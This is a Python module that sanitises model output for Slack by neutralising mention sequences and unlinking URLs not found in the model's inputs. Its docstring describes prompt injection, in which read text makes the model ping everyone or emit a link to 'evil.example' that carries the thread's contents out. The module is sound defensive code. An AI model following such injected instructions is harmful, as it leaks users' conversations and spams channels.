"""Model output made harmless for Slack: it cannot ping people or whole channels, nor offer a
link it made up (pure).

Text the model read (a file, a quoted message) can tell it to write Slack's control sequences;
posted as they are, `<!channel>` notifies everyone and `<@U…>` pings a person. Each is
rewritten as the plain words it would show, so the answer reads the same and notifies nobody.

    >>> neutralise("Ping <!channel>, <!here|here>, <@U0ALICE|alice>, <@W9> and <!subteam^S1|@ops>")
    'Ping @channel, @here, @alice, @W9 and @ops'

The same text can tell it to write a link that carries what it read to someone else's server
(`[details](https://evil.example/?q=<the thread>)`). A link whose address appears in nothing
the model read (`urls_in` of the thread, the sources, the tool results) is shown as its words
and the address in code: readable, not clickable.

    >>> unlink_unknown("[a](https://evil.example/?q=1) [b](https://ok.example)", {"https://ok.example"})
    'a (`https://evil.example/?q=1`) [b](https://ok.example)'
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["neutralise", "unlink_unknown", "urls_in"]

_SPECIAL = re.compile(r"<!(here|channel|everyone)(?:\|[^>]*)?>", re.IGNORECASE)
_GROUP = re.compile(r"<!subteam\^[A-Z0-9]+(?:\|@?([^>]*))?>", re.IGNORECASE)
_PERSON = re.compile(r"<@([UW][A-Z0-9]+)(?:\|([^>]*))?>")

_ADDRESS = r"(?:https?://|www\.)[^\s<>`\"'\[\]|]+"
_LINKS = re.compile(
    r"(?P<code>```.*?(?:```|\Z)|`[^`\n]*`)"  # code: never clickable, left as written
    rf"|!?\[(?P<label>[^\]\n]*)\]\(\s*<?(?P<target>{_ADDRESS})>?(?:\s+\"[^\"\n]*\")?\s*\)"
    rf"|<(?P<angle>{_ADDRESS})(?:\|(?P<angle_label>[^>\n]*))?>"
    rf"|(?P<bare>{_ADDRESS})",
    re.DOTALL | re.IGNORECASE,
)
_BARE = re.compile(_ADDRESS, re.IGNORECASE)
_TRAILING = ".,;:!?'\""


def neutralise(text: str) -> str:
    text = _SPECIAL.sub(lambda m: f"@{m.group(1).lower()}", text)
    text = _GROUP.sub(lambda m: f"@{m.group(1) or 'group'}", text)
    return _PERSON.sub(lambda m: f"@{m.group(2) or m.group(1)}", text)


def urls_in(text: str) -> set[str]:
    """The web addresses written in `text` (sentence punctuation after one left off)."""
    return {_trimmed(found)[0] for found in _BARE.findall(text)}


def unlink_unknown(text: str, known: Iterable[str]) -> str:
    """`text` with every link to an address not in `known` written as words and code."""
    known_keys = {_key(url) for url in known}

    def rewrite(match: re.Match[str]) -> str:
        if match["code"] is not None:
            return match[0]
        if match["target"] is not None:
            url, label, after = match["target"], match["label"], ""
        elif match["angle"] is not None:
            url, label, after = match["angle"], match["angle_label"] or "", ""
        else:
            (url, after), label = _trimmed(match["bare"]), ""
        if _key(url) in known_keys:
            return match[0]
        return _shown(label, url) + after

    return _LINKS.sub(rewrite, text)


def _shown(label: str, url: str) -> str:
    label = label.strip()
    return f"{label} (`{url}`)" if label and label != url else f"`{url}`"


def _trimmed(found: str) -> tuple[str, str]:
    """The address and what follows it that belongs to the sentence: a final `.`, or a `)`
    closing a parenthesis opened before the address."""
    url = found.rstrip(_TRAILING)
    while url.endswith(")") and url.count(")") > url.count("("):
        url = url[:-1].rstrip(_TRAILING)
    return url, found[len(url) :]


def _key(url: str) -> str:
    return url.rstrip("/")
